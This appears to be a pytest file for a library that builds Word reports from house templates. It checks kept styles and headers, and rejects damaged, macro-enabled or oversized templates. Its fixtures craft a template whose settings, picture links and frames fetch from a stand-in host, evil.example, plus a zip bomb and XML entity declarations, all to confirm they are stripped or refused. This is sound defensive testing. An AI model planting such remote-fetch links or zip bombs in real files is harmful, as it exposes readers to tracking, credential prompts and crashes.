"""House templates: what a Word file keeps of them, and which are errors."""

import posixpath
import re
import zipfile
from collections.abc import Callable
from contextlib import suppress
from io import BytesIO
from typing import Any

import docx
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.opc.constants import CONTENT_TYPE, RELATIONSHIP_TYPE
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Cm
from every_block import REPORT, note, plain, rich
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from word_reader import WordFile, indent, labelled, paragraphs, read, styles, value
from word_template import house, part, repacked

from essence_refs.errors import TemplateError
from essence_refs.formats import word
from essence_refs.model import (
    Bibliography,
    BibliographyEntry,
    Document,
    List,
    Paragraph,
    RichText,
    Table,
)

HOUSE = house()
NAMESPACES = nsdecls("w", "r")
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def test_a_template_keeps_its_page_headers_and_styles() -> None:
    """Its own text is removed, including comments and pictures."""
    assert b"Do not forget" in part(HOUSE, "comments.xml")
    data = word.write_bytes(REPORT, template=HOUSE)
    file = WordFile(data)
    section = file.document.sections[0]
    assert section.header.paragraphs[0].text == "  THE HOUSE · Board paper"
    assert section.footer.paragraphs[0].text == "The House is a registered charity"
    assert round(section.left_margin.cm, 1) == 3.0
    title = file.document.styles["Title"]
    assert (title.font.name, str(title.font.color.rgb)) == ("Georgia", "005030")
    assert styles(file)[1] == "Title"
    whole = b"".join(zipfile.ZipFile(BytesIO(data)).read(name) for name in file.names)
    assert b"Replace this" not in whole
    assert b"Secretary" not in whole
    assert b"Do not forget" not in whole
    assert len([name for name in file.names if "comments" in name]) == 0
    assert file.document.core_properties.category == "Board papers"


def test_a_template_gets_the_language_of_the_document() -> None:
    """Its Normal style was in French; the list is not."""
    file = read(plain("a"), template=HOUSE)
    assert {each.get(qn("w:val")) for each in file.styles.iter(qn("w:lang"))} == {"en-GB"}


def test_a_template_gets_missing_styles_in_its_own_font() -> None:
    """They have none of our fonts and colours, and their size is relative to the template's text."""
    template = house(without=("Title", "Heading 2", "Quote"))
    file = WordFile(word.write_bytes(REPORT, template=template))
    assert "Title" in styles(file)
    title = file.document.styles["Title"]
    assert (title.font.name, title.font.color.rgb, title.font.size.pt) == (None, None, 20)
    assert title.base_style.name == "Normal"
    assert b"1F3864" not in part(word.write_bytes(REPORT, template=template), "styles.xml")


def test_a_template_gets_only_the_styles_that_are_used() -> None:
    """Its list of styles stays short."""
    file = read(plain("a"), template=HOUSE)
    assert {"Annotation", "Masthead", "Report Table"}.isdisjoint(
        value(each, "name") for each in file.styles.findall(qn("w:style"))
    )


def changed_house(change: Callable[[Any], None]) -> bytes:
    """Return a template that a user has changed."""
    document = docx.Document(BytesIO(HOUSE))
    change(document)
    stream = BytesIO()
    document.save(stream)
    return stream.getvalue()


def test_text_has_the_body_text_style_of_a_template_or_else_normal() -> None:
    """A template with a Body Text style uses it for its text."""
    assert styles(read(plain("a"), template=HOUSE)) == ["Body Text"]
    assert styles(read(plain("a"), template=house(without=("Body Text",)))) == ["Normal"]


def test_tables_have_the_default_table_style_of_a_template() -> None:
    """Word has a button for it: "set as default for this template"."""

    def choose(document: Any) -> None:
        document.styles.add_style("House Table", WD_STYLE_TYPE.TABLE)
        chosen = OxmlElement("w:defaultTableStyle")
        chosen.set(qn("w:val"), "HouseTable")
        document.settings.element.insert_element_before(chosen, "w:characterSpacingControl", "w:compat")

    block = Table(head=(RichText.of("a"),), rows=(), alignments=())
    (ours,), (theirs,) = (
        file.document.tables
        for file in (read(block, template=HOUSE), read(block, template=changed_house(choose)))
    )
    assert (ours.style.name, theirs.style.name) == ("Report Table", "House Table")


def test_the_bibliography_has_the_indent_of_the_template() -> None:
    """It takes precedence over the citation style's, but labels get the width that they need."""

    def choose(document: Any) -> None:
        style = document.styles.add_style("Bibliography", WD_STYLE_TYPE.PARAGRAPH)
        style.paragraph_format.left_indent = Cm(2)

    template = changed_house(choose)
    entries = (BibliographyEntry(key="a", text=RichText.of("a")),)
    (plain_one,) = paragraphs(read(Bibliography(entries=entries, hanging_indent=True), template=template))
    (with_label,) = paragraphs(read(labelled("flush", "1."), template=template))
    assert indent(plain_one) == ()
    width = str((556 + 278 + 600) * 20 // 100)
    assert indent(with_label) == (width, width)


def test_a_wide_page_of_a_template_is_used() -> None:
    """Tables and pictures are as wide as its text."""
    file = read(Table(head=(RichText.of("a" * 300),), rows=(), alignments=()), template=house(landscape=True))
    (column,) = file.body.iter(qn("w:gridCol"))
    assert abs(int(column.get(qn("w:w"))) - 24.7 * 567) < 10


def test_headers_of_an_earlier_section_are_kept() -> None:
    """The last section often inherits its headers."""
    template = changed_house(lambda document: document.add_section())
    section = read(plain("a"), template=template).document.sections
    assert len(section) == 1
    assert section[0].header.paragraphs[0].text == "  THE HOUSE · Board paper"


def test_the_notes_of_a_template_are_replaced() -> None:
    """Its notes are removed with its text; its separators are kept."""
    noted = word.write_bytes(
        Document(title="", blocks=(Paragraph(text=rich("a", note(1))),), notes=((plain("old"),),))
    )
    file = read(Paragraph(text=rich("b", note(1))), template=noted, notes=((plain("new"),),))
    assert file.note(1) == [" new"]
    assert b"old" not in file.notes_part.blob
    assert b"old" not in read(plain("b"), template=noted).notes_part.blob
    assert file.faults() == []


def test_our_own_file_is_a_template() -> None:
    """A list that a user has changed in Word can be the template of the next one."""
    first = word.write_bytes(REPORT)
    file = WordFile(word.write_bytes(REPORT, template=first))
    assert file.faults() == []
    assert file.paragraphs() == WordFile(first).paragraphs()


def test_a_dotx_file_is_a_template() -> None:
    """The result is a document."""
    types = part(HOUSE, "Types].xml").replace(b"document.main+xml", b"template.main+xml")
    template = repacked(HOUSE, {"[Content_Types].xml": types})
    file = read(plain("a"), template=template)
    assert file.part.content_type.endswith("document.main+xml")
    assert file.document.sections[0].header.paragraphs[0].text.endswith("Board paper")


def test_a_file_of_libreoffice_is_a_template() -> None:
    """It names the relationship of the core properties as in ECMA-376-1; the result has one set of properties."""
    ours = b"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
    theirs = b"http://schemas.openxmlformats.org/officedocument/2006/relationships/metadata/core-properties"
    template = repacked(HOUSE, {".rels": part(HOUSE, "_rels/.rels").replace(ours, theirs)})
    assert template != HOUSE
    file = WordFile(word.write_bytes(REPORT, template=template))
    assert file.faults() == []
    assert [name for name in file.names if "core" in name] == ["docProps/core.xml"]
    assert file.document.core_properties.title == REPORT.title
    assert file.document.core_properties.category == "Board papers"


BAD = {
    "nothing": (b"", "not a Word file"),
    "text": (b"Dear all", "not a Word file"),
    "old": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "password"),
    "cut": (HOUSE[: len(HOUSE) // 2], "not a Word file"),
    "empty zip": (b"PK\x05\x06" + bytes(18), "damaged"),
    "macros": (
        repacked(HOUSE, {"[Content_Types].xml": part(HOUSE, "Types].xml").replace(b"openxmlformats-officedocument.wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")}),
        "macros",
    ),
    "strict": (
        repacked(HOUSE, {".rels": part(HOUSE, "_rels/.rels").replace(b"schemas.openxmlformats.org/officeDocument/2006", b"purl.oclc.org/ooxml/officeDocument")}),
        "Strict",
    ),
    "spreadsheet": (
        repacked(HOUSE, {"[Content_Types].xml": part(HOUSE, "Types].xml").replace(b"wordprocessingml.document.main", b"spreadsheetml.sheet.main")}),
        "not a Word file",
    ),
    "no text": (repacked(HOUSE, {"document.xml": None}), "damaged"),
    "broken text": (repacked(HOUSE, {"document.xml": b"<w:document"}), "damaged"),
    "broken styles": (repacked(HOUSE, {"styles.xml": b"<w:styles"}), "damaged"),
    "styles that are none": (repacked(HOUSE, {"styles.xml": b"<styles/>"}), "damaged"),
    "numbering that is none": (repacked(HOUSE, {"numbering.xml": b"<numbering/>"}), "damaged"),
    "settings that are none": (repacked(HOUSE, {"settings.xml": b"<settings/>"}), "damaged"),
    "no body": (repacked(HOUSE, {"document.xml": b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'}), "damaged"),
}  # fmt: skip


def fetching() -> bytes:
    """Return a template that makes Word fetch, ask and merge when it opens the file."""
    document = docx.Document(BytesIO(HOUSE))
    asked = document.part.part_related_by(RELATIONSHIP_TYPE.SETTINGS)

    def elsewhere(owner: Any, kind: str) -> str:
        return str(owner.rels.get_or_add_ext_rel(f"{RELATIONSHIPS}/{kind}", f"https://evil.example/{kind}"))

    template, source = elsewhere(asked, "attachedTemplate"), elsewhere(asked, "mailMergeSource")
    for written in (
        f'<w:attachedTemplate {NAMESPACES} r:id="{template}"/>',
        f"<w:linkStyles {NAMESPACES}/>",
        f'<w:mailMerge {NAMESPACES}><w:dataSource r:id="{source}"/></w:mailMerge>',
        f'<w:documentProtection {NAMESPACES} w:edit="readOnly" w:enforcement="1"/>',
        f'<w:updateFields {NAMESPACES} w:val="true"/>',
    ):
        asked.element.insert(1, parse_xml(written))
    elsewhere(document.part, "customXml")
    elsewhere(document.part.package, "customXml")
    header = document.sections[0].header
    (picture,) = header._element.iter(qn("a:blip"))
    picture.set(qn("r:link"), elsewhere(header.part, "image"))
    header.part.rels.get_or_add_ext_rel(f"{RELATIONSHIPS}/hyperlink", "https://www.house.example/")
    frames = Part(
        PackURI("/word/frames.xml"), CONTENT_TYPE.WML_WEB_SETTINGS, b"<frames/>", document.part.package
    )
    document.part.relate_to(frames, RELATIONSHIP_TYPE.WEB_SETTINGS)
    elsewhere(frames, "frame")
    stream = BytesIO()
    document.save(stream)
    return stream.getvalue()


def test_a_template_makes_word_fetch_and_ask_nothing() -> None:
    """Opening a list must not contact another computer or ask for a password."""
    template = fetching()
    with zipfile.ZipFile(BytesIO(template)) as archive:
        assert sum(archive.read(name).count(b"evil.example") for name in archive.namelist()) == 6
    made = word.write_bytes(REPORT, template=template)
    with zipfile.ZipFile(BytesIO(made)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert [name for name, content in parts.items() if b"evil.example" in content] == []
    assert "word/frames.xml" not in parts
    settings = b"".join(content for name, content in parts.items() if name.endswith("settings.xml"))
    for name in (b"attachedTemplate", b"linkStyles", b"mailMerge", b"documentProtection", b"updateFields"):
        assert name not in settings
    file = WordFile(made)
    assert file.faults() == []
    header = file.document.sections[0].header
    (picture,) = header._element.iter(qn("a:blip"))
    assert picture.get(qn("r:link")) is None
    assert picture.get(qn("r:embed")) in header.part.rels
    # Links are kept: a reader decides to follow them.
    assert "https://www.house.example/" in {each.target_ref for each in header.part.rels.values()}


def test_a_zip_bomb_is_an_error() -> None:
    """A zip of 200 kB can unpack to 300 MB."""
    stream = BytesIO(HOUSE)
    with (
        zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/x.bin", "w") as entry,
    ):
        for _ in range(201):
            entry.write(bytes(1_000_000))
    with pytest.raises(TemplateError, match="more than 200 MB"):
        word.write_bytes(REPORT, template=stream.getvalue())


@pytest.mark.parametrize("name", BAD)
def test_an_unusable_template_is_an_error_with_a_reason(name: str) -> None:
    """There is no traceback of python-docx, and no file without the template's look."""
    template, reason = BAD[name]
    with pytest.raises(TemplateError, match=re.escape(reason)):
        word.write_bytes(REPORT, template=template)


@settings(max_examples=60)
@given(st.data())
def test_a_damaged_template_is_used_or_an_error(data: st.DataObject) -> None:
    """Whatever byte of whatever part is wrong, there is no other exception."""
    name = data.draw(
        st.sampled_from(
            ["styles.xml", "numbering.xml", "settings.xml", "document.xml", "core.xml", "Types].xml", ".rels"]
        )
    )
    content = bytearray(part(HOUSE, name))
    for _ in range(data.draw(st.integers(1, 3))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(32, 126))
    key = {"Types].xml": "[Content_Types].xml"}.get(name, name)
    with suppress(TemplateError):
        assert word.write_bytes(REPORT, template=repacked(HOUSE, {key: bytes(content)}))


def test_a_list_is_numbered_as_the_list_style_of_the_template() -> None:
    """Of the definitions in a template, the one that its List Number style refers to is used."""

    def choose_roman(document: Any) -> None:
        numbering = document.part.numbering_part.element
        definitions = numbering.findall(qn("w:abstractNum"))
        first = value(numbering.find(qn("w:num")), "abstractNumId")
        chosen = next(each for each in definitions[1:] if each.get(qn("w:abstractNumId")) != first)
        for definition in definitions:
            for each in definition.iter(qn("w:numFmt")):
                each.set(qn("w:val"), "upperRoman" if definition is chosen else "decimal")
        number = numbering.add_num(int(chosen.get(qn("w:abstractNumId"))))
        reference = document.styles["List Number"].element.pPr.numPr
        reference.numId.val = number.numId

    file = read(
        List(start=1, items=((Paragraph(text=RichText.of("a")),),)), template=changed_house(choose_roman)
    )
    (number,) = [value(each, "pPr/numPr/numId") for each in paragraphs(file)]
    definition = file.numbering.find(f"{qn('w:num')}[@{qn('w:numId')}='{number}']/{qn('w:abstractNumId')}")
    (levels,) = [
        each
        for each in file.numbering.findall(qn("w:abstractNum"))
        if each.get(qn("w:abstractNumId")) == definition.get(qn("w:val"))
    ]
    assert value(levels, "lvl/numFmt") == "upperRoman"


DAMAGES: dict[str, Callable[[bytes], bytes]] = {
    "missing": lambda _: b"",
    "half": lambda part: part[: len(part) // 2],
    "binary": lambda _: bytes(range(256)),
    "another": lambda _: b"<a/>",
    "long numbers": lambda part: re.sub(rb'="-?[0-9]+"', b'="' + b"9" * 5000 + b'"', part),
    "no numbers": lambda part: re.sub(rb'="-?[0-9]+"', b'="wide"', part),
    "empty": lambda part: re.sub(rb"(?s)(<[^?!][^>]*?)/?>.*", rb"\1/>", part),
    "declared": lambda part: b'<!DOCTYPE a [<!ENTITY b "c">]>' + part.rpartition(b"?>")[2],
    "declared in UTF-16": lambda part: (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a>' + part.rpartition(b"?>")[2].decode()
    ).encode("utf-16"),
}


@pytest.mark.parametrize("damage", DAMAGES)
def test_a_template_with_a_damaged_or_missing_part_makes_a_sound_file_or_none(damage: str) -> None:
    """Each part in turn: Word opens no file in which a part is not XML, or refers to one that is not there."""
    with zipfile.ZipFile(BytesIO(HOUSE)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, content in parts.items():
        if damage.startswith("declared") and not name.endswith((".xml", ".rels")):
            continue
        changed = {**parts, name: DAMAGES[damage](content)}
        if damage == "missing":
            del changed[name]
        template = BytesIO()
        with zipfile.ZipFile(template, "w") as archive:
            for each, data in changed.items():
                archive.writestr(each, data)
        try:
            made = word.write_bytes(REPORT, template=template.getvalue())
        except TemplateError:
            continue
        assert not damage.startswith("declared"), name
        hold_together(made)


def hold_together(file: bytes) -> None:
    """Assert that every part in XML is, and that every part that another refers to is there."""
    with zipfile.ZipFile(BytesIO(file)) as archive:
        names = set(archive.namelist())
        for name in names:
            if not name.endswith((".xml", ".rels")):
                continue
            root = etree.fromstring(archive.read(name))
            for each in root if name.endswith(".rels") else ():
                if each.get("TargetMode") != "External":
                    base = "/" + posixpath.dirname(posixpath.dirname(name))
                    target = posixpath.normpath(posixpath.join(base, each.get("Target", "")))
                    assert target.lstrip("/") in names, (name, target)
    docx.Document(BytesIO(file))
